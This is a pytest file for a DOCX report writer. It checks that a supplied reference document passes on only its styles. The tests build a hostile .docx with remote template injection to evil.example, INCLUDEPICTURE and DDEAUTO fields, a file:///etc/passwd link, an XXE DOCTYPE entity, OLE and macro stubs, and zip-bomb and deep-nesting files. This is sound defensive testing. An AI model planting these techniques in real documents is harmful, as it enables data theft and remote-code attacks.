"""A reference document gives the DOCX its styles and page set-up, never links,
macros, objects or fields that fetch: a house style from elsewhere is untrusted."""

from __future__ import annotations

import io
import re
import time
import zipfile
from pathlib import Path

import docx
import pytest
from lxml import etree

PLAIN = """\
title: Plain
marking: TLP:CLEAR
as_of: 2024-06-30
formats: [docx]
sections:
  - type: excerpts
    select: "country:KZ"
"""

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = R + "/"
NS = (f'xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
      'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"')
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"

# what the reference document plants, and the words the warning uses for it
PLANTED = {
    "an attached template": "http://evil.example/house.dotm",
    "pictures linked from outside the file": r"\\host\share\logo.png",
    "fields that fetch content": "INCLUDEPICTURE",
    "links to outside the file": "file:///etc/passwd",
    "embedded objects (OLE, ActiveX)": "Excel.Sheet.12",
    "frames": "http://evil.example/frame.html",
    "macros": "word/vbaProject.bin",
    "a DOCTYPE": "word/styles.xml",
    "entity references": "word/styles.xml",
}
# nothing of these may be left anywhere in the output
TRACES = ["evil.example", "host\\share", "host/share", "INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO",
          "attachedTemplate", "OLEObject", "<w:object", "frameset", "vbaProject", "macroEnabled", "oleObject",
          "DOCTYPE", "&house;", "root:", "r:link", "o:href", "/etc/passwd", "docLocation", "documentProtection"]

HEADER_PLANTS = f"""
<w:p {NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://evil.example/pixel.png" \\d </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>pixel</w:t></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p {NS}><w:fldSimple w:instr=' INCLUDETEXT "\\\\host\\share\\text.docx" '><w:r><w:t>included</w:t></w:r>
</w:fldSimple><w:r><w:t xml:space="preserve">Kept words </w:t></w:r>
<w:hyperlink r:id="rIdLink"><w:r><w:t>Intranet</w:t></w:r></w:hyperlink>
<w:hyperlink w:docLocation="\\\\host\\share\\other.docx" w:anchor="top"><w:r><w:t> Other</w:t></w:r></w:hyperlink>
<w:r><w:pict><v:rect href="file:///etc/passwd" style="width:1pt;height:1pt"/></w:pict></w:r></w:p>
<w:p {NS}><w:r><w:pict><v:shape id="logo" style="width:10pt;height:10pt">
<v:imagedata r:id="rIdUnc" o:href="\\\\host\\share\\logo.png"/></v:shape></w:pict></w:r>
<w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="77" name="linked"/><a:graphic>
<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><a:blip r:link="rIdUnc"/>
</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>
<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rIdOle"/></w:object></w:r></w:p>
<w:p {NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO excel "\\\\host\\share\\x.xls"</w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
"""


def _relationship(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"{mode}/>'


EMPTY_RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'


def _add(xml: bytes, closing: bytes, inner: str) -> bytes:
    """``inner`` before the last ``closing`` tag of ``xml``."""
    at = xml.rindex(closing)
    return xml[:at] + inner.encode() + xml[at:]


def hostile_reference(path: Path) -> Path:
    """A reference .docx (a .docm in truth) carrying every planted item."""
    start = docx.Document()
    start.styles["Heading 1"].font.name = "Courier New"
    start.sections[0].header.paragraphs[0].text = "House Name Ltd"
    buffer = io.BytesIO()
    start.save(buffer)
    with zipfile.ZipFile(buffer) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    header = next(n for n in parts if re.fullmatch(r"word/header\d+\.xml", n))
    header_rels = header.replace("word/", "word/_rels/") + ".rels"
    parts[header] = _add(parts[header], b"</w:hdr>", HEADER_PLANTS)
    parts[header_rels] = _add(parts.get(header_rels, EMPTY_RELS), b"</Relationships>", "".join([
        _relationship("rIdLink", "hyperlink", "file:///etc/passwd"),
        _relationship("rIdUnc", "image", "file://///host/share/logo.png"),
        _relationship("rIdOle", "oleObject", "\\\\host\\share\\book.xlsx")]))
    parts["word/settings.xml"] = _add(parts["word/settings.xml"], b"</w:settings>",
                                      f'<w:attachedTemplate {NS} r:id="rIdTpl"/><w:documentProtection {NS} '
                                      'w:edit="readOnly" w:enforcement="1"/>')
    parts["word/_rels/settings.xml.rels"] = _add(EMPTY_RELS, b"</Relationships>", _relationship(
        "rIdTpl", "attachedTemplate", "http://evil.example/house.dotm"))
    parts["word/webSettings.xml"] = _add(parts["word/webSettings.xml"], b"</w:webSettings>",
                                         f'<w:frameset {NS}><w:frame><w:sourceFileName r:id="rIdFrame"/>'
                                         '</w:frame></w:frameset>')
    parts["word/_rels/webSettings.xml.rels"] = _add(EMPTY_RELS, b"</Relationships>", _relationship(
        "rIdFrame", "frame", "http://evil.example/frame.html"))
    parts["word/_rels/document.xml.rels"] = _add(parts["word/_rels/document.xml.rels"], b"</Relationships>", (
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>' + _relationship("rIdEmbed", "oleObject", "embeddings/oleObject1.bin", False)))
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 object"
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", MACRO_MAIN.encode())
    parts["[Content_Types].xml"] = _add(types, b"</Types>", (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/embeddings/oleObject1.bin" '
        'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'))
    styles = parts["word/styles.xml"]
    declaration_end = styles.index(b"?>") + 2
    doctype = (b'<!DOCTYPE w:styles [<!ENTITY house "Evil House"><!ENTITY secret SYSTEM "file:///etc/passwd">]>')
    styles = styles[:declaration_end] + doctype + styles[declaration_end:]
    styles = styles.replace(b"<w:style ", b'<w:style w:aliases="&house;" ', 1)
    parts["word/styles.xml"] = _add(styles, b"</w:styles>", "<w:style w:styleId='Spare'>&secret;&house;</w:style>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def assert_clean(path: Path) -> None:
    """No planted item in any part of ``path``; every XML part well-formed; the
    only relationships to outside the file are the pack's own web links."""
    strict = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        assert not [n for n in names if "vbaProject" in n or "embeddings/" in n or "vbaData" in n]
        for name in names:
            data = package.read(name)
            if not name.endswith((".xml", ".rels")):
                continue
            root = etree.fromstring(data, strict)  # well-formed, or this raises
            assert root.getroottree().docinfo.internalDTD is None, name
            text = data.decode("utf-8")
            assert [t for t in TRACES if t in text] == [], name
            if name.endswith(".rels"):
                for rel in root:
                    if rel.get("TargetMode") == "External":
                        assert rel.get("Type") == REL + "hyperlink", (name, rel.attrib)
                        assert re.match(r"https?://", rel.get("Target")), (name, rel.attrib)


def test_a_hostile_reference_document_gives_styles_only_and_a_warning(build, corpus, tmp_path):
    corpus.brief("plain", PLAIN)
    ref = hostile_reference(tmp_path / "house.docx")
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--reference-doc", ref)
    assert result.exit_code == 0, result.output
    warning = [line for line in result.stderr.splitlines() if "reference document carries" in line]
    assert len(warning) == 1 and warning[0].startswith(f"Warning: {ref}: reference document")
    for words, example in PLANTED.items():
        assert f"{words} (" in warning[0] and example in warning[0], (words, warning[0])
    out = corpus.out / "plain.docx"
    assert_clean(out)
    built = docx.Document(str(out))
    header = " ".join(p.text for p in built.sections[0].header.paragraphs)
    assert "House Name Ltd" in header and "Kept words Intranet Other" in header and "TLP:CLEAR" in header
    assert "pixel" not in header and "included" not in header
    heading = built.styles["Heading 1"].element
    assert heading.find(f"{{{W}}}rPr/{{{W}}}rFonts").get(f"{{{W}}}ascii") == "Courier New"
    with zipfile.ZipFile(out) as package:
        types = package.read("[Content_Types].xml").decode()
    assert "wordprocessingml.document.main+xml" in types


def test_with_strict_a_hostile_reference_document_is_refused(build, corpus, tmp_path):
    corpus.brief("plain", PLAIN)
    ref = hostile_reference(tmp_path / "house.docx")
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--strict", "--reference-doc", ref)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr.startswith(f"Error: {ref}: reference document carries what a built pack must not")
    assert "macros (word/vbaProject.bin" in result.stderr
    assert result.stderr.rstrip().endswith("(warnings are errors with --strict)")
    assert not (corpus.out / "plain.docx").exists()


def test_an_up_to_date_build_shows_the_warning_again_and_strict_refuses_it(build, corpus, tmp_path):
    corpus.brief("plain", PLAIN)
    ref = hostile_reference(tmp_path / "house.docx")
    args = ("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--reference-doc", ref)
    first = build(*args)
    assert first.exit_code == 0, first.output
    again = build(*args)
    assert again.exit_code == 0 and "up to date" in again.stderr.lower() + again.stdout.lower(), again.output
    assert "reference document carries what a built pack must not" in again.stderr
    strict = build(*args, "--strict")
    assert (strict.exit_code, strict.stdout) == (1, "")
    assert strict.stderr.startswith(f"Error: {ref}: reference document carries")


def test_a_clean_reference_document_gives_no_warning(build, corpus, tmp_path):
    corpus.brief("plain", PLAIN)
    ref = tmp_path / "house.docx"
    start = docx.Document()
    start.sections[0].header.paragraphs[0].text = "House Name Ltd"
    start.save(str(ref))
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--strict", "--reference-doc", ref)
    assert result.exit_code == 0, result.output
    assert "warning" not in result.stderr
    assert_clean(corpus.out / "plain.docx")


def test_every_part_written_is_well_formed(build, corpus, tmp_path):
    corpus.brief("plain", PLAIN)
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert_clean(corpus.out / "plain.docx")


# ---------------------------------------------------------------- bounds
def _default_parts() -> dict[str, bytes]:
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    with zipfile.ZipFile(buffer) as source:
        return {name: source.read(name) for name in source.namelist()}


def _styles_bomb(path: Path, size: int) -> None:
    """A .docx whose styles.xml is ``size`` bytes, mostly one comment (about 1 MB compressed per 200 MB)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, data in _default_parts().items():
            if name != "word/styles.xml":
                package.writestr(name, data)
        with package.open("word/styles.xml", "w", force_zip64=True) as stream:
            stream.write(f"<w:styles xmlns:w='{W}'><!--".encode())
            chunk = b"bomb" * 2**18
            for _ in range(size // len(chunk)):
                stream.write(chunk)
            stream.write(b"--></w:styles>")


def _deep(path: Path, size: int) -> None:
    """A .docx whose styles.xml nests ``size`` elements."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in _default_parts().items():
            if name == "word/styles.xml":
                data = _add(data, b"</w:styles>", "<w:style>" * size + "</w:style>" * size)
            package.writestr(name, data)


def _attributes(path: Path, size: int) -> None:
    """A .docx whose styles and numbering have ``size`` elements of 3,000 attributes between them."""
    attributes = b" ".join(b'w:a%d=""' % i for i in range(3000))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in _default_parts().items():
            if name in ("word/styles.xml", "word/numbering.xml"):
                at = data.rindex(b"</w:")
                data = data[:at] + (b"<w:x " + attributes + b"/>") * (size // 2) + data[at:]
            package.writestr(name, data)


def _many(path: Path, size: int) -> None:
    with zipfile.ZipFile(path, "w") as package:
        for i in range(size):
            package.writestr(f"word/media/image{i}.png", b"")


@pytest.mark.parametrize("make, size, message", [
    (_styles_bomb, 200 * 2**20, "the package expands to more than 64 MB (200 MB or more); a reference "
                                "document is read up to 64 MB in all and 16 MB per XML part"),
    (_styles_bomb, 20 * 2**20, "word/styles.xml expands to more than 16 MB (20 MB or more)"),
    (_styles_bomb, 12 * 10**6, "word/styles.xml: Comment too big found: a reference document's XML is read to "
                               "a depth of 256 and up to 10,000,000 characters in one text or comment"),
    (_deep, 5000, "word/styles.xml: Excessive depth in document: 256"),
    (_many, 1500, "has 1500 parts; a reference document may have at most 1000"),
    (_attributes, 700, "has more than 2,000,000 tags and attributes in its XML parts; a reference document may "
                       "have at most that many"),
])
def test_a_reference_document_beyond_the_bounds_is_refused_quickly(build, corpus, tmp_path, make, size, message):
    corpus.brief("plain", PLAIN)
    ref = tmp_path / "bomb.docx"
    make(ref, size)
    assert ref.stat().st_size < 2 * 2**20
    started = time.perf_counter()
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--reference-doc", ref)
    assert time.perf_counter() - started < 20
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr.startswith(f"Error: {ref}: {message}"), result.stderr
    assert not corpus.out.exists() or not (corpus.out / "plain.docx").exists()


# ---------------------------------------------------------------- what is kept, what cannot be used
def test_a_picture_stored_in_the_reference_header_is_kept(build, corpus, tmp_path):
    from PIL import Image

    png = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(png, "PNG")
    start = docx.Document()
    start.sections[0].header.paragraphs[0].add_run().add_picture(io.BytesIO(png.getvalue()))
    ref = tmp_path / "house.docx"
    start.save(str(ref))
    corpus.brief("plain", PLAIN)
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--strict", "--reference-doc", ref)
    assert result.exit_code == 0, result.output
    out = corpus.out / "plain.docx"
    assert_clean(out)
    header = docx.Document(str(out)).sections[0].header
    blips = header._element.findall(".//{http://schemas.openxmlformats.org/drawingml/2006/main}blip")
    assert len(blips) == 1
    assert header.part.related_parts[blips[0].get(f"{{{R}}}embed")].blob == png.getvalue()


def _edited(path: Path, name: str, old: bytes, new: bytes) -> Path:
    parts = _default_parts()
    assert old in parts[name]
    parts[name] = parts[name].replace(old, new, 1)
    with zipfile.ZipFile(path, "w") as package:
        for member, data in parts.items():
            package.writestr(member, data)
    return path


@pytest.mark.parametrize("name, old, new, message", [
    ("word/document.xml", b'<w:pgSz w:w="12240"', b'<w:pgSz w:w="wide"', "not a valid .docx: cannot read its "
     "styles, settings or page set-up ("),
    ("word/styles.xml", b"</w:styles>", b"</w:styles><w:x/>", "not a valid .docx: word/styles.xml: not "
     "well-formed XML (Extra content at the end of the document)"),
    ("word/_rels/document.xml.rels", b'Target="styles.xml"', b'Target="theme/theme1.xml"',
     "not a valid .docx: word/theme/theme1.xml: not a styles part (its root is <theme>)"),
    ("word/styles.xml", b"encoding='UTF-8'", b"encoding='zlib'", "not a valid .docx: word/styles.xml: not "
     "well-formed XML (Unsupported encoding: zlib)"),
])
def test_a_reference_document_the_writer_cannot_use_is_a_usage_error(build, corpus, tmp_path, name, old, new,
                                                                    message):
    ref = _edited(tmp_path / "house.docx", name, old, new)
    corpus.brief("plain", PLAIN)
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--reference-doc", ref)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr.splitlines()[-1].startswith(f"Error: Invalid value for '--reference-doc': {ref}: {message}")


@pytest.mark.parametrize("name, old, new", [
    ("word/styles.xml", b' w:styleId="Normal"', b""),  # a style without an id
    ("word/_rels/document.xml.rels", b'Target="styles.xml"', b'Target="document.xml"'),  # its own styles
    ("word/numbering.xml", b'w:abstractNumId="0"', b'w:abstractNumId="\xc2\xb2"'),  # a list numbered "²"
    ("word/settings.xml", b"</w:settings>",  # a field code outside any field, with no document to show it in
     f'<w:r {NS}><w:instrText>INCLUDEPICTURE "http://evil.example/x.png"</w:instrText></w:r></w:settings>'.encode()),
])
def test_what_the_writer_could_not_use_is_left_out(build, corpus, tmp_path, name, old, new):
    ref = _edited(tmp_path / "house.docx", name, old, new)
    (corpus.root / "templates").mkdir()
    (corpus.root / "templates" / "lists.xml.j2").write_text("<ul><li>Bullet.</li></ul><ol><li>First.</li></ol>\n")
    corpus.brief("plain", PLAIN.replace('select: "country:KZ"', 'select: "country:KZ"\n    template: '
                                        "templates/lists.xml.j2"))
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--reference-doc", ref)
    assert result.exit_code == 0, result.output
    assert_clean(corpus.out / "plain.docx")


def test_the_reference_documents_own_endnotes_are_left_behind(build, corpus, tmp_path):
    parts = _default_parts()
    separators = "".join(f'<w:endnote w:type="{kind}" w:id="{i}"><w:p><w:r><w:{kind}/></w:r></w:p></w:endnote>'
                         for i, kind in ((-1, "separator"), (0, "continuationSeparator")))
    parts["word/endnotes.xml"] = (f'<w:endnotes {NS}>{separators}<w:endnote w:id="1"><w:p><w:r>'
                                  "<w:t>An endnote of the house document</w:t></w:r></w:p></w:endnote>"
                                  "</w:endnotes>").encode()
    parts["word/_rels/document.xml.rels"] = _add(parts["word/_rels/document.xml.rels"], b"</Relationships>",
                                                 _relationship("rIdEnd", "endnotes", "endnotes.xml", False))
    parts["[Content_Types].xml"] = _add(parts["[Content_Types].xml"], b"</Types>", (
        '<Override PartName="/word/endnotes.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.endnotes+xml"/>'))
    ref = tmp_path / "house.docx"
    with zipfile.ZipFile(ref, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    corpus.brief("plain", PLAIN)
    result = build("briefs/plain.yaml", "--format", "docx", "--jobs", "1", "--strict", "--reference-doc", ref)
    assert result.exit_code == 0, result.output
    assert_clean(corpus.out / "plain.docx")
    with zipfile.ZipFile(corpus.out / "plain.docx") as package:
        endnotes = etree.fromstring(package.read("word/endnotes.xml"))
    assert [n.get(f"{{{W}}}type") for n in endnotes] == ["separator", "continuationSeparator"]


# ---------------------------------------------------------------- mangled reference documents
def _mangled(parts: dict[str, bytes], rnd) -> dict[str, bytes]:
    """``parts`` with a few XML elements moved, copied, dropped or given odd attribute values."""
    import copy

    parts = dict(parts)
    for name in rnd.sample(sorted(n for n in parts if n.endswith((".xml", ".rels"))), 3):
        root = etree.fromstring(parts[name], etree.XMLParser(resolve_entities=False))
        elements = list(root.iter("*"))[1:]
        for element in rnd.sample(elements, min(4, len(elements))):
            choice, parent = rnd.randrange(4), element.getparent()
            if parent is None:
                continue
            if choice == 0:
                parent.remove(element)
            elif choice == 1:
                target = rnd.choice(elements)
                if target is not element and element not in target.iterancestors():
                    target.append(element)
            elif choice == 2 and element.attrib:
                element.set(rnd.choice(sorted(element.attrib)), rnd.choice(["", "x", "-1", "9" * 12, "rIdUnc"]))
            else:
                element.addnext(copy.deepcopy(element))
        parts[name] = etree.tostring(root)
    return parts


@pytest.mark.parametrize("seed", range(2))
def test_a_mangled_reference_document_builds_clean_or_is_refused(tmp_path, seed):
    import random

    from briefpack.document.model import Document, Heading, Link, Meta, Note, Paragraph, Text
    from briefpack.errors import BriefpackError
    from briefpack.writers import WriterOptions
    from briefpack.writers.docx.writer import write_docx

    document = Document(Meta(title="Mangled", marking="TLP:CLEAR", timestamp=1), [
        Heading(1, [Text("One")]), Paragraph([Text("Text "), Link("a link", "https://example.org"),
                                              Note(1, (Text("A note."),))])])
    with zipfile.ZipFile(hostile_reference(tmp_path / "house.docx")) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    rnd, ref, out = random.Random(seed), tmp_path / "mangled.docx", tmp_path / "out.docx"
    built = 0
    for _ in range(10):
        with zipfile.ZipFile(ref, "w") as package:
            for name, data in _mangled(parts, rnd).items():
                package.writestr(name, data)
        try:
            write_docx(document, out, WriterOptions(reference_doc=ref))
        except BriefpackError as exc:
            assert exc.path == ref and str(exc).startswith(f"{ref}: not a valid .docx: "), str(exc)
            continue
        assert_clean(out)
        built += 1
    assert built > 0
